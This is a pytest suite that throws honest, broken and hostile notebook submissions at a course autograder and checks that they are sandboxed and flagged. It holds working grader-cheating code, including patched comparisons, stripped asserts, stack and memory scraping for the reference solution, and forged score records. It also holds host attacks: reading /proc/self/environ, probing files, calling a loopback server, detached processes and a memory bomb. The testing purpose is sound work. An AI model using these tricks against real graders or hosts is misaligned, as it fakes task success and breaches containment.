"""Adversarial tests of `python -m autograder grade`: a class of honest, broken and hostile submissions.

Each hostile submission pairs an attack with a wrong (or missing) answer, so
that an attack that worked would show up as points it should not have, or as
a trace on the host (a file, a connection, a process) that the test looks for.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
import time
import zipfile
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from notebook_grading import graded_cells, nbgrader_meta, release_notebook, replace_solution, source_notebook

from attention_course.testing import mistake_name
from autograder import grading, reports, sandbox
from autograder.release import REPO_ROOT, nbgrader_env

A = "01_self_attention"
#: every test cell's points, in the notebook's order
POINTS = {nbgrader_meta(c)["grade_id"]: float(nbgrader_meta(c)["points"])
          for c in graded_cells(nbformat.read(source_notebook(A), 4))}
FULL = sum(POINTS.values())
#: the points of SelfAttention's test cells and of every test after them (the concept checks): what a notebook
#: that breaks down in that last exercise loses
_FIRST = next(i for i, g in enumerate(POINTS) if g.startswith("SelfAttention_"))
SELF_ATTENTION = sum(list(POINTS.values())[_FIRST:])
MARKER = Path("/tmp/autograder-test-marker")

WRONG_SOFTMAX = "def softmax(x, dim=-1):\n    return x\n"
#: a wrong softmax whose mistake the judges name: exp(x), never divided by its sum
UNNORMALISED_SOFTMAX = "import torch\n\ndef softmax(x, dim=-1):\n    return torch.exp(x)\n"
LOOP = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"
NO_ASSERTS = ("import ast\nclass _NoAssert(ast.NodeTransformer):\n    def visit_Assert(self, node):\n"
              "        return ast.Pass()\nget_ipython().ast_transformers.append(_NoAssert())")


#: A wrong attention (the softmax over the query axis) that runs ``{attack}`` first, on every call.
WRONG_SDPA = """
def scaled_dot_product_attention(q, k, v, mask=None):
    {attack}
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    weights = softmax(scores, dim=-2)
    return weights @ v, weights
"""

#: What a forger needs: the records' file (from the environment, else /proc, else the workspace), the id of the
#: test that is running (from the cell's own source), and a perfect record (the probe run on torch's attention).
FORGE = """
import glob, json, os, re
import torch.nn.functional as F

class _Stop(BaseException):
    pass

_done = set()

def _records_file():
    for value in os.environ.values():
        if value.endswith(".jsonl"):
            return value
    try:  # the environment the process started with (the grader's workers show no /proc at all)
        for item in open("/proc/self/environ", "rb").read().split(b"\\0"):
            if item.endswith(b".jsonl"):
                return item.split(b"=", 1)[1].decode()
    except OSError:
        pass
    return os.path.abspath((glob.glob("*.jsonl") or ["observations.jsonl"])[0])

def _running_test():
    found = re.search('run_check[(]"([^"]+)"', In[-1])
    return found.group(1) if found else None

def _torch_attention(q, k, v, mask=None):
    eye = torch.eye(k.shape[-2], dtype=q.dtype).expand(*k.shape[:-1], -1)
    weights = F.scaled_dot_product_attention(q, k, eye, attn_mask=mask)
    return weights @ v, weights

def _perfect(check):
    from autograder.checks.core import encode, get
    return encode(get(check)(_torch_attention))

def _forge(observations, stop=False):
    check = _running_test()
    if check is None or check in _done:
        return
    _done.add(check)
    with open(_records_file(), "a") as sink:
        sink.write(json.dumps({"check": check, "observations": observations(check)}) + "\\n")
    if stop:
        raise _Stop()

_starts = {}

def _replace():
    # first call of a test: remember where its records begin; a later call in the same test (its visible
    # asserts), after the real record: put a perfect record in its place
    check = _running_test()
    if check is None:
        return
    path = _records_file()
    if check not in _starts:
        _starts[check] = os.path.getsize(path) if os.path.exists(path) else 0
    elif os.path.getsize(path) > _starts[check] and check not in _done:
        _done.add(check)
        with open(path, "r+") as sink:
            sink.truncate(_starts[check])
            sink.seek(_starts[check])
            sink.write(json.dumps({"check": check, "observations": _perfect(check)}) + "\\n")
"""


def _with(answers: dict[str, str] | None = None, extra: list[str] | None = None, base: str = "source") -> dict:
    """The source (or release) notebook with some solution cells replaced and extra cells after the set-up."""
    nb = nbformat.read(source_notebook(A) if base == "source" else release_notebook(A), 4)
    for gid, code in (answers or {}).items():
        replace_solution(nb, gid, code)
    for index, code in enumerate(extra or []):
        nb.cells.insert(2 + index, nbformat.v4.new_code_cell(code))
    return nb


def _server() -> tuple[int, list[bytes]]:
    """A TCP server on the host's loopback that records whatever reaches it."""
    received: list[bytes] = []
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(1.0)

    def serve() -> None:
        deadline = time.monotonic() + 900
        while time.monotonic() < deadline:
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            received.append(conn.recv(100))
            conn.close()

    threading.Thread(target=serve, daemon=True).start()
    return listener.getsockname()[1], received


PORT, RECEIVED = _server()

HOSTILE = {
    # attacks on the comparison, the asserts and the checks, each with a wrong softmax
    "patch_allclose": ({"softmax": UNNORMALISED_SOFTMAX},
                       ["import torch\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True"]),
    "asserts_to_pass": ({"softmax": WRONG_SOFTMAX}, [NO_ASSERTS]),
    "blank_later_cells": ({"softmax": WRONG_SOFTMAX},
                          ["get_ipython().input_transformers_post.append(lambda lines: [])"]),
    "replace_run_check": ({"softmax": WRONG_SOFTMAX}, [
        "import autograder.checks, autograder.checks.core as core\n"
        "autograder.checks.run_check = core.run_check = lambda *a, **k: None"]),
    "lying_subclass": ({"softmax": (
        "import torch\nclass Liar(torch.Tensor):\n    def __eq__(self, other):\n        return True\n"
        "    def allclose(self, *a, **k):\n        return True\n"
        "def softmax(x, dim=-1):\n    return torch.zeros_like(x).as_subclass(Liar)\n")}, []),
    "import_reference": ({"softmax": "from solutions.self_attention import softmax\n"}, []),
    "frames_and_memory": ({"softmax": (
        "import gc, inspect, torch\n"
        "_found = []\n"
        "def softmax(x, dim=-1):\n"
        "    for frame in inspect.stack(0):  # no source lines: fast enough for the visible checks too\n"
        "        ref = frame.frame.f_globals.get('ref')\n"
        "        if ref is not None and hasattr(ref, 'softmax'):\n"
        "            return ref.softmax(x, dim)\n"
        "    if not _found:  # search memory once: every object the kernel holds\n"
        "        _found.extend(obj for obj in gc.get_objects() if callable(obj)\n"
        "                      and getattr(obj, '__module__', '') == 'solutions.self_attention')\n"
        "        _found.append(None)\n"
        "    return _found[0](x, dim) if _found[0] is not None else x\n")}, []),
    "stray_records": ({"softmax": WRONG_SOFTMAX}, [
        "import torch\nfrom autograder.checks import run_check\n"
        "run_check('softmax_sums_to_one', lambda x, dim=-1: torch.softmax(x, dim))"]),
    # forging the hidden checks' records, each around the same wrong scaled_dot_product_attention
    "plain_wrong_sdpa": ({"scaled_dot_product_attention": WRONG_SDPA.format(attack="")}, []),
    "forge_empty_record": ({"scaled_dot_product_attention": FORGE + WRONG_SDPA.format(
        attack="_forge(lambda check: {'results': []}, stop=True)")}, []),
    "forge_perfect_record": ({"scaled_dot_product_attention": FORGE + WRONG_SDPA.format(
        attack="_forge(_perfect, stop=True)")}, []),
    "forge_and_return": ({"scaled_dot_product_attention": FORGE + WRONG_SDPA.format(attack="_forge(_perfect)")}, []),
    "redirect_records": ({"scaled_dot_product_attention": FORGE + WRONG_SDPA.format(attack="_forge(_perfect)")},
                         ["import os\nos.environ['AUTOGRADER_OBSERVATIONS'] = '/dev/null'"]),
    "replace_record": ({"scaled_dot_product_attention": FORGE + WRONG_SDPA.format(attack="_replace()")}, []),
    "forge_then_exit": ({"scaled_dot_product_attention": FORGE + WRONG_SDPA.format(
        attack="_forge(_perfect); os._exit(0)")}, []),
    # attacks on the host
    "read_host_files": ({}, [
        f"import pathlib\nrepo = pathlib.Path({str(REPO_ROOT)!r})\n"
        "paths = [repo / 'solutions' / 'self_attention.py', repo / 'autograder' / 'gradebook.db',\n"
        "         repo / 'autograder' / 'source', pathlib.Path('/root')]\n"
        "print('FOUND', [str(p) for p in paths if p.exists()])"]),
    "network": ({}, [
        f"import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {PORT}), timeout=2)\n"
        "    s.sendall(b'pwned')\n    print('CONNECTED')\nexcept OSError as e:\n    print('NO NETWORK', e)"]),
    "write_host": ({}, [
        f"import pathlib\ntry:\n    pathlib.Path({str(MARKER)!r}).write_text('pwned')\nexcept OSError as e:\n"
        "    print('CANNOT WRITE', e)"]),
    "background_process": ({}, [
        "import subprocess\nsubprocess.Popen(['sh', '-c', "
        f"'sleep 5; echo late > {MARKER}.late; sleep 600'], start_new_session=True)"]),
    # robustness
    # (in the last exercise, so that the points earned before the failure can be seen to count)
    "crash": ({"SelfAttention": "import os\nos._exit(3)\n"}, []),
    "infinite_loop": ({"SelfAttention": LOOP}, []),
    "memory_bomb": ({"SelfAttention": "blocks = []\nwhile True:\n    blocks.append(bytearray(256 << 20))\n"}, []),
    "output_flood": ({}, ["for i in range(300_000):\n    print('flood', i)"]),
    "warning_but_correct": ({}, ["import warnings\nwarnings.warn('a library warning', UserWarning)"]),
}


def _hostile_notebook(name: str) -> dict:
    answers, extra = HOSTILE[name]
    return _with(answers, extra)


@pytest.fixture(scope="module")
def graded(tmp_path_factory) -> dict:
    """One class graded by the command line, sandbox on: {student: row of grades.csv}, and the output folder."""
    MARKER.unlink(missing_ok=True)
    Path(f"{MARKER}.late").unlink(missing_ok=True)
    root = tmp_path_factory.mktemp("class")
    submissions = root / "submissions"
    def put(student: str, nb: dict | str, name: str = "self_attention.ipynb") -> None:
        folder = submissions / student
        folder.mkdir(parents=True, exist_ok=True)
        if isinstance(nb, str):
            (folder / name).write_text(nb)
        else:
            nbformat.write(nb, folder / name)

    put("honest", _with())
    put("untouched", nbformat.read(release_notebook(A), 4))
    put("wrong_name", _with(), name="My Attempt (1).ipynb")
    put("invalid_json", '{"cells": [')
    put("not_a_notebook", '{"hello": 1}')
    (submissions / "empty").mkdir(parents=True)
    unknown = _with()
    for cell in unknown.cells:
        cell.metadata["lms_plugin"] = {"weird": [1, 2, 3]}
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata["nbgrader"]["schema_version"] = 99
    put("unknown_metadata", unknown)
    deleted = _with()
    deleted.cells = [c for c in deleted.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    put("deleted_tests", deleted)
    altered = _with({"softmax": WRONG_SOFTMAX})
    for cell in altered.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.source = "pass"
    altered.cells += [c for c in _with().cells if c.metadata.get("nbgrader", {}).get("grade")][:3]  # duplicated
    put("altered_tests", altered)
    for name in HOSTILE:
        put(name, _hostile_notebook(name))
    out = root / "out"
    started = time.monotonic()
    run = subprocess.run(
        [sys.executable, "-m", "autograder", "grade", A, str(submissions), "--out", str(out), "--workers", "2",
         "--timeout", "90", "--cell-timeout", "15", "--memory-gb", "4",
         "--gradebook", f"sqlite:///{root / 'gradebook.db'}"],
        cwd=REPO_ROOT, env=nbgrader_env(), capture_output=True, text=True, timeout=1500)
    seconds = time.monotonic() - started
    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
    with (out / "grades.csv").open() as handle:
        rows = {row["student_id"]: row for row in csv.DictReader(handle)}
    return {"rows": rows, "out": out, "root": root, "submissions": submissions, "log": run.stdout + run.stderr,
            "seconds": seconds}


def test_every_submission_has_a_row(graded) -> None:
    expected = {"honest", "untouched", "wrong_name", "invalid_json", "not_a_notebook", "empty", "unknown_metadata",
                "deleted_tests", "altered_tests", *HOSTILE}
    assert set(graded["rows"]) == expected
    for student, row in graded["rows"].items():
        assert row["status"] in grading.STATUSES, row
        assert row["status"] == "ok" or row["reason"], f"{student}: status {row['status']} without a reason"
        assert float(row["max_score"]) == FULL


def _score(graded, student: str) -> float:
    return float(graded["rows"][student]["score"])


@pytest.mark.parametrize("student", ["honest", "wrong_name", "unknown_metadata", "deleted_tests",
                                     "read_host_files", "network", "write_host", "background_process",
                                     "output_flood", "warning_but_correct"])
def test_correct_answers_keep_full_marks(graded, student) -> None:
    assert _score(graded, student) == FULL, graded["rows"][student]


def test_untouched_release_scores_zero(graded) -> None:
    assert _score(graded, "untouched") == 0 and graded["rows"]["untouched"]["status"] == "ok"


@pytest.mark.parametrize("student", ["patch_allclose", "asserts_to_pass", "blank_later_cells", "replace_run_check",
                                     "lying_subclass", "import_reference", "frames_and_memory", "stray_records",
                                     "altered_tests"])
def test_cheating_gains_nothing(graded, student) -> None:
    row = graded["rows"][student]
    for gid in ("softmax_sums_to_one", "softmax_stable", "softmax_masked_entries"):
        assert float(row[gid]) == 0, f"{student} scored {row[gid]} on {gid}"
    assert _score(graded, student) < FULL


@pytest.mark.parametrize("student", ["patch_allclose", "replace_run_check", "import_reference", "frames_and_memory",
                                     "stray_records"])
def test_cheating_is_flagged_for_a_person(graded, student) -> None:
    row = graded["rows"][student]
    assert row["status"] == "flagged" and row["reason"], row


SDPA_CELLS = [gid for gid in (nbgrader_meta(c)["grade_id"] for c in graded_cells(nbformat.read(source_notebook(A), 4)))
              if gid.startswith("scaled_dot_product_attention_")]


def test_the_plain_wrong_answer_loses_its_points(graded) -> None:
    row = graded["rows"]["plain_wrong_sdpa"]
    assert row["status"] == "ok" and 0 < _score(graded, "plain_wrong_sdpa") < FULL, row
    assert any(float(row[gid]) == 0 for gid in SDPA_CELLS), row


@pytest.mark.parametrize("student", ["forge_empty_record", "forge_perfect_record", "forge_and_return",
                                     "redirect_records"])
def test_forged_records_gain_nothing_and_are_flagged_for_what_they_are(graded, student) -> None:
    """The forger's own record meets the probe's (or the note that the probe was stopped): two records for
    one test, which no honest notebook writes. Flagged for that, whatever the source patterns say."""
    row, plain = graded["rows"][student], graded["rows"]["plain_wrong_sdpa"]
    for gid in SDPA_CELLS:
        assert float(row[gid]) <= float(plain[gid]), f"{student} gained on {gid}: {row[gid]} > {plain[gid]}"
    assert row["status"] == "flagged", row
    assert "records" in row["reason"] or "stopped the hidden check" in row["reason"], row["reason"]


def test_a_forger_that_kills_its_kernel_gains_nothing(graded) -> None:
    row = graded["rows"]["forge_then_exit"]
    assert row["status"] == "crashed", row
    assert _score(graded, "forge_then_exit") <= _score(graded, "plain_wrong_sdpa"), row


def test_a_record_rewritten_in_place_is_flagged(graded) -> None:
    """Truncating the file and writing a perfect record where the probe's was leaves one well-formed record:
    only the code that does it gives it away, and it is flagged for a person."""
    row = graded["rows"]["replace_record"]
    assert row["status"] == "flagged" and "reach for files" in row["reason"], row


def test_invalid_and_empty_submissions_say_why(graded) -> None:
    rows = graded["rows"]
    assert rows["invalid_json"]["status"] == "invalid" and "invalid JSON" in rows["invalid_json"]["reason"]
    assert rows["not_a_notebook"]["status"] == "invalid" and "no list of cells" in rows["not_a_notebook"]["reason"]
    assert rows["empty"]["status"] == "invalid" and "empty submission" in rows["empty"]["reason"]
    assert "graded My Attempt (1).ipynb as self_attention.ipynb" in rows["wrong_name"]["reason"]


def test_crash_loop_and_memory_bomb_are_contained(graded) -> None:
    rows = graded["rows"]
    assert rows["crash"]["status"] == "crashed" and "kernel died" in rows["crash"]["reason"], rows["crash"]
    assert rows["infinite_loop"]["status"] == "timeout" and "time limit" in rows["infinite_loop"]["reason"]
    assert rows["memory_bomb"]["status"] in ("crashed", "ok") and _score(graded, "memory_bomb") < FULL
    for student in ("crash", "infinite_loop"):  # what was earned before the failure counts
        assert _score(graded, student) == FULL - SELF_ATTENTION, rows[student]  # all before SelfAttention
    # a MemoryError that the kernel survives fails its own cell, and the tests after it run on
    own = sum(p for g, p in POINTS.items() if g.startswith("SelfAttention_"))
    expected = FULL - (SELF_ATTENTION if rows["memory_bomb"]["status"] == "crashed" else own)
    assert _score(graded, "memory_bomb") == expected, rows["memory_bomb"]


def test_the_host_is_untouched(graded) -> None:
    assert not RECEIVED, f"a submission reached a server on the host's loopback: {RECEIVED}"
    assert not MARKER.exists(), "a submission wrote a file on the host"
    time.sleep(6)
    assert not Path(f"{MARKER}.late").exists(), "a background process outlived its submission"
    leftover = subprocess.run(["pgrep", "-f", "sleep 600"], capture_output=True, text=True).stdout.strip()
    assert not leftover, f"processes started by a submission are still running: {leftover}"


def _what_is_seen(secrets: list[Path], stream: str) -> str:
    """Code that writes what it can see as one JSON line on ``sys.<stream>``: which of ``secrets`` exist, whether
    the reference or the judges import, whether the host's loopback answers, its pid, / and the repository."""
    return (
        "import importlib.util, json, os, socket, sys\n"
        f"paths = {[str(p) for p in secrets]!r}\n"
        "def found(name):\n"
        "    try:\n"
        "        return importlib.util.find_spec(name) is not None\n"
        "    except ImportError:\n"
        "        return False\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {PORT}), timeout=2)\n"
        "    network = True\n"
        "except OSError:\n"
        "    network = False\n"
        f"repo = sorted(os.listdir({str(REPO_ROOT)!r})) if os.path.isdir({str(REPO_ROOT)!r}) else []\n"
        "print(json.dumps({'visible': [p for p in paths if os.path.exists(p)],\n"
        "                  'modules': [m for m in ('solutions', 'autograder.judges') if found(m)],\n"
        "                  'network': network, 'pid': os.getpid(), 'root': sorted(os.listdir('/')), 'repo': repo}),\n"
        f"      file=sys.{stream})\n"
    )


def test_what_a_submission_could_see(tmp_path) -> None:
    """Inside the sandbox, as a plain process and as a notebook's cell on a grading worker (where a student's
    code runs): no repository, reference, judges, gradebook, sources or output folder; no network."""
    bundle = sandbox.build_bundle(tmp_path / "bundle")
    workspace = tmp_path / "work"
    workspace.mkdir()
    output = tmp_path / "grades-out"
    output.mkdir()
    (output / "grades.csv").write_text("student_id,score\n")
    gradebook = tmp_path / "gradebook.db"  # a real one, where --gradebook would put it
    with sqlite3.connect(gradebook) as db:
        db.execute("CREATE TABLE grade (student_id TEXT, score REAL)")
    secrets = [REPO_ROOT / "README.md", REPO_ROOT / "solutions" / "self_attention.py", REPO_ROOT / "autograder",
               REPO_ROOT / "autograder" / "source", gradebook, output, output / "grades.csv"]
    if (REPO_ROOT / "autograder" / "gradebook.db").exists():  # nbgrader's default place, when there is one
        secrets.append(REPO_ROOT / "autograder" / "gradebook.db")
    # each exists here, so that the sandbox's not showing it proves something
    assert all(p.exists() for p in secrets), [str(p) for p in secrets if not p.exists()]

    run = sandbox.run([sys.executable, "-c", _what_is_seen(secrets, "stdout")], bundle, workspace,
                      sandbox.Limits(wall_seconds=60))
    assert run.returncode == 0, run.stderr
    limits = sandbox.Limits(wall_seconds=120)
    worker = sandbox.Worker(bundle, limits)
    try:
        execution = worker.run({"cells": [nbformat.v4.new_code_cell(_what_is_seen(secrets, "stderr"))]}, limits)
    finally:
        worker.close()
    assert execution.summary and execution.summary.get("done"), execution.stderr
    lines = {"a process": run.stdout, "a notebook on a worker": execution.stderr}
    for where, text in lines.items():
        written = [line for line in text.splitlines() if line.startswith("{")]
        assert written, f"{where} wrote no report: {text[-2000:]}"
        seen = json.loads(written[-1])
        assert seen["visible"] == [], f"visible inside the sandbox, to {where}: {seen['visible']}"
        assert seen["modules"] == [], f"importable inside the sandbox, to {where}: {seen['modules']}"
        assert seen["network"] is False, f"{where} reached the host's loopback"
        assert "home" not in seen["root"], (where, seen["root"])
        # where the venv lives inside the repository, its mount point makes the folder exist, and nothing else
        assert set(seen["repo"]) <= {Path(sys.prefix).name}, f"the repository's files, to {where}: {seen['repo']}"
    assert json.loads(run.stdout.strip().splitlines()[-1])["pid"] == 2, "not in its own PID namespace"


def test_grading_refuses_when_a_check_cannot_load(tmp_path) -> None:
    """A check module that fails to import stops the command before anyone is graded, naming the module,
    the line and the error. (In a copy of the repository: a broken module in this one would reach every grader
    running beside this test.)"""
    copy = tmp_path / "repo"
    for part in ("autograder", "solutions", "attention_course", "notebooks"):
        shutil.copytree(REPO_ROOT / part, copy / part, ignore=shutil.ignore_patterns("__pycache__", "*.db"))
    (copy / "autograder" / "checks" / "zz_broken_for_test.py").write_text(
        "import torch\n\nVALUE = torch.tensor(1) / undefined_name\n")
    run = subprocess.run([sys.executable, "-m", "autograder", "grade", A, str(tmp_path), "--out",
                          str(tmp_path / "o")], cwd=copy, env={**nbgrader_env(), "PYTHONPATH": str(copy)},
                         capture_output=True, text=True, timeout=300)
    assert run.returncode == 2 and "refusing to grade" in run.stderr, run.stderr[-2000:]
    assert "zz_broken_for_test" in run.stderr and "zz_broken_for_test.py:3" in run.stderr, run.stderr[-2000:]
    assert "NameError" in run.stderr and not (tmp_path / "o").exists()
    assert str(copy) in run.stderr, "the copy's grader did not run: " + run.stderr[-2000:]


def test_every_check_is_indexed_under_its_module_whoever_imported_it_first() -> None:
    """The sandbox's index (check id -> module) names each check's own module even when that module was imported
    before the index was made: a judge module imports its checks' module (Chapter 2's does), and an index that
    missed those checks left a kernel without them."""
    script = ("import json, autograder.judges.masking\n"
              "from autograder.checks import core\n"
              "print(json.dumps(core.index()))")
    run = subprocess.run([sys.executable, "-c", script], cwd=REPO_ROOT, capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr[-2000:]
    owners = json.loads(run.stdout)
    modules = sorted(set(owners.values()))
    for module in ("masking", "self_attention", "gpt"):
        assert f"autograder.checks.{module}" in modules, f"no check indexed under {module}: {modules}"
    assert set(owners.values()) <= {f"autograder.checks.{p.stem}" for p in (REPO_ROOT / "autograder" / "checks")
                                    .glob("*.py") if p.stem not in ("core", "__init__")}, owners


def test_grading_refuses_when_the_instructor_falls_short(tmp_path, monkeypatch) -> None:
    """The preflight: with a judge that fails every answer, the instructor's own answers fall short, and the
    command refuses, listing the cells and why, before it writes anything."""
    from autograder.__main__ import PreflightFailed, _run_all
    from autograder.judges import core as judges

    with grading.tempfile.TemporaryDirectory() as scratch:
        name, source, release, bundle = grading.prepare(A, Path(scratch))
        settings = grading.Settings(A, name, source, release, bundle, sandbox.Limits(wall_seconds=300))

        def always_wrong(obs):
            raise judges.Mistake("deliberately wrong judge")

        judges.load_judges()
        monkeypatch.setitem(judges._JUDGES, "softmax_sums_to_one", always_wrong)
        with pytest.raises(PreflightFailed) as failed:
            _run_all([], settings, workers=1, scheduler=None)
    assert any("softmax_sums_to_one" in p and "deliberately wrong judge" in p for p in failed.value.problems)


def test_selftest_gives_the_assignments_it_is_given_full_marks() -> None:
    """Two assignments, one line each and the summary. Every assignment's instructor answers get full marks from
    the same grader in test_catalogue.py (the instructor's row of each class); .ci/run runs the whole selftest
    as an ordinary user on a copy under /tmp."""
    chosen = ["01_self_attention", "05_positional_encoding"]
    run = subprocess.run([sys.executable, "-m", "autograder", "selftest", *chosen], cwd=REPO_ROOT,
                         env=nbgrader_env(), capture_output=True, text=True, timeout=900)
    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
    assert "selftest: 2 of 2 assignment(s) give the instructor full marks" in run.stdout, run.stdout[-3000:]
    for assignment in chosen:
        line = next(x for x in run.stdout.splitlines() if x.startswith(assignment + ":"))
        score, maximum = line.split(":")[1].split(",")[0].strip().split("/")
        assert float(score) == float(maximum) > 0 and ", ok" in line, line


class _Tables(HTMLParser):
    """The tables of an HTML page: {its id (else its position): [(row attributes, [cell texts]), ...]}, header
    rows (of <th>) left out; entities are decoded, so a cell's text is what the reader sees."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, list[tuple[dict, list[str]]]] = {}
        self._rows: list[tuple[dict, list[str]]] = []
        self._cell: list[str] | None = None

    def handle_starttag(self, tag, attrs) -> None:
        if tag == "table":
            self._rows = self.tables.setdefault(dict(attrs).get("id") or str(len(self.tables)), [])
        elif tag == "tr":
            self._rows.append((dict(attrs), []))
        elif tag == "td":
            self._cell = self._rows[-1][1]
            self._cell.append("")

    def handle_endtag(self, tag) -> None:
        if tag == "td":
            self._cell = None

    def handle_data(self, data) -> None:
        if self._cell is not None:
            self._cell[-1] += data


def _tables(page: Path) -> dict[str, list[tuple[dict, list[str]]]]:
    parser = _Tables()
    parser.feed(page.read_text(encoding="utf-8"))
    return {name: [row for row in rows if row[1]] for name, rows in parser.tables.items()}


def _feedback(graded, student: str) -> tuple[dict, dict[str, tuple[dict, list[str]]]]:
    """A student's feedback: the JSON, and the page's rows by test (row attributes, cell texts)."""
    page = graded["out"] / "feedback" / student / f"{A}.html"
    (rows,) = _tables(page).values()
    return json.loads(page.with_suffix(".json").read_text()), {cells[0]: (attrs, cells) for attrs, cells in rows}


def _judged_in_process(check: str, answer: str) -> AssertionError:
    """The hidden check's verdict on ``answer`` (an answer cell's source), probed and judged in this process: the
    judge's Mistake, its text as the learner reads it and its ``name``."""
    from autograder.checks import core as checks
    from autograder.judges import core as judges

    namespace: dict = {}
    exec(answer, namespace)  # the same source the class's notebook carries
    checks.load_all()
    judges.load_judges()
    with pytest.raises(judges.Mistake) as verdict:
        judges.judge_recorded(check, checks.encode(checks.get(check)(namespace["softmax"])))
    return verdict.value


def test_the_honest_feedback_shows_every_test_passed(graded) -> None:
    data, rows = _feedback(graded, "honest")
    assert (data["score"], data["max_score"], data["status"]) == (FULL, FULL, "ok"), data
    assert [c["grade_id"] for c in data["cells"]] == list(POINTS) == list(rows)
    wrong = [c for c in data["cells"] if c["points"] != c["max_points"] or c["message"] or c["mistake"]]
    assert not wrong, wrong
    for gid, (attrs, cells) in rows.items():
        assert attrs.get("class") == "passed", (gid, attrs, cells)
        assert cells == [gid, f"{POINTS[gid]:g} / {POINTS[gid]:g}", "passed", "", ""], cells


def test_the_feedback_carries_the_judges_message_and_its_named_mistake(graded) -> None:
    """The patched-comparison student: the page and the JSON show, for softmax_sums_to_one, the message the
    judge gives the same answer here, and the mistake it names (the Mistake's ``name``, which its text ends with
    too)."""
    gid = "softmax_sums_to_one"
    verdict = _judged_in_process(gid, UNNORMALISED_SOFTMAX)
    expected = str(verdict)
    assert verdict.name == mistake_name(expected) == "missing the division", expected
    data, rows = _feedback(graded, "patch_allclose")
    cell = next(c for c in data["cells"] if c["grade_id"] == gid)
    assert (cell["points"], cell["message"], cell["mistake"]) == (0, expected, "missing the division"), cell
    attrs, cells = rows[gid]
    assert attrs.get("class") == "failed", attrs
    assert cells == [gid, f"0 / {POINTS[gid]:g}", "failed", "missing the division", expected], cells


def test_the_class_report_agrees_with_the_grades_and_the_feedback(graded) -> None:
    rows = graded["rows"]
    tables = _tables(graded["out"] / "report.html")
    # pass rates: the share of rows of grades.csv with the test's full points
    rates = {attrs["data-check"]: (int(attrs["data-passed"]), float(attrs["data-rate"]))
             for attrs, _ in tables["pass-rates"]}
    assert list(rates) == list(POINTS)
    for gid, (passed, rate) in rates.items():
        full = sum(float(row[gid]) == POINTS[gid] for row in rows.values())
        assert (passed, rate) == (full, pytest.approx(full / len(rows), abs=1e-6)), gid
    assert {rate for _, rate in rates.values()} - {0.0, 1.0}, "no test that some passed and some failed"
    # named mistakes: each student once per name, as the feedback JSON beside each page names them
    per_student = Counter(m for student in rows for m in {c["mistake"] for c in _feedback(graded, student)[0]["cells"]
                                                          if c["mistake"]})
    named = {cells[0]: int(cells[1]) for _, cells in tables["mistakes"]}
    assert named["missing the division"] == per_student["missing the division"] >= 1, named
    assert {m: per_student[m] for m in named} == named
    assert len(named) == min(15, len(per_student)) and all(
        n <= min(named.values()) for m, n in per_student.items() if m not in named), (named, per_student)
    shapes = [m for m in named if mistake_name(f"x ({m})") != m or re.fullmatch(r"[\d\s,()]+", m)]
    assert not shapes, f"not mistake names: {shapes}"
    statuses = {cells[0]: int(cells[1]) for _, cells in tables["statuses"]}
    assert statuses == Counter(row["status"] for row in rows.values())


def test_the_report_counts_each_student_once_and_no_shape_as_a_mistake(tmp_path) -> None:
    """write_report on results made here: two students name the same mistake (one in two tests), a third's
    message ends in a shape, which is no mistake's name. The names are the cells' ``mistake`` fields, as the
    grader records them."""
    def result(student: str, messages: list[str]) -> grading.Result:
        cells = {f"t{i}": grading.CellResult(f"t{i}", 0.0 if m else 1.0, 1.0, m, "softmax over the wrong axis"
                                             if m.endswith("(softmax over the wrong axis)") else None)
                 for i, m in enumerate(messages)}
        return grading.Result(student, A, "ok", "", cells)

    axis = "weights sum to 1 along dim 0 (softmax over the wrong axis)"
    results = [result("ann", [axis, "again, " + axis, ""]), result("bob", ["", axis, ""]),
               result("cy", ["out has shape (2, 5), expected (2, 5, 6)", "", ""])]
    reports.write_report(results, tmp_path / "report.html")
    tables = _tables(tmp_path / "report.html")
    assert [cells for _, cells in tables["mistakes"]] == [["softmax over the wrong axis", "2"]]
    assert [(attrs["data-check"], attrs["data-passed"]) for attrs, _ in tables["pass-rates"]] == [
        ("t0", "1"), ("t1", "1"), ("t2", "3")]


@pytest.mark.parametrize(("scores", "maximum"), [([0, 3, 3, 10, 10, 7.5], 10), ([0, 0, 0], 0),
                                                  ([27, 13.5, 0, 26, 1.35], 27), ([0.5, 1, 0.2], 1)])
def test_the_report_s_histogram_bins_the_scores_as_numpy_does(scores, maximum) -> None:
    """The score histogram is inline SVG (no plotting library in the grading process): its bins hold what
    numpy.histogram puts in the same bins (the right edge in the last), each bar says its count, and the chart
    says what it shows to a screen reader."""
    import numpy as np

    counts, width = reports._histogram(scores, maximum)
    expected, edges = np.histogram(scores, bins=len(counts), range=(0, max(maximum, 1)))
    assert counts == expected.tolist() and width == pytest.approx(edges[1] - edges[0])
    svg = reports.histogram_svg(scores, maximum)
    assert svg.startswith("<svg") and "role='img'" in svg and "<title>score histogram: " in svg
    assert svg.count("<rect") == len(counts) and sum(counts) == len(scores)


def test_nbgrader_export_sees_the_grades(graded, tmp_path) -> None:
    course = tmp_path / "course"
    course.mkdir()
    shutil.copy(REPO_ROOT / "autograder" / "nbgrader_config.py", course)
    db = graded["root"] / "gradebook.db"
    run = subprocess.run([sys.executable, "-m", "nbgrader", "export", f"--db=sqlite:///{db}", "--to", "export.csv"],
                         cwd=course, env=nbgrader_env(), capture_output=True, text=True, timeout=300)
    assert run.returncode == 0, run.stderr[-2000:]
    with (course / "export.csv").open() as handle:
        exported = {row["student_id"]: float(row["score"]) for row in csv.DictReader(handle)}
    for student, row in graded["rows"].items():
